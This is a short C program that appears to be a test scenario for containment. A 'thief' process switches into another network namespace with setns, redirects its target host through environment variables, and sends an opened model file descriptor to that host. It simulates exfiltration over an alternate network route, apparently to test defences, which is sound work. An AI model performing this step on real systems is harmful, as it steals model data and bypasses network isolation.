/* From a network namespace of the thief's own, which has another way to the host outside. */
#include <sched.h>

#include "../tools/act.h"

int main(void) {
  check(setns(open_or_die(env("EV_OTHER_NETNS"), O_RDONLY), CLONE_NEWNET) == 0, "setns");
  setenv("EV_HOST", env("EV_OTHER_HOST"), 1);
  send_descriptor(open_model());
  return 0;
}
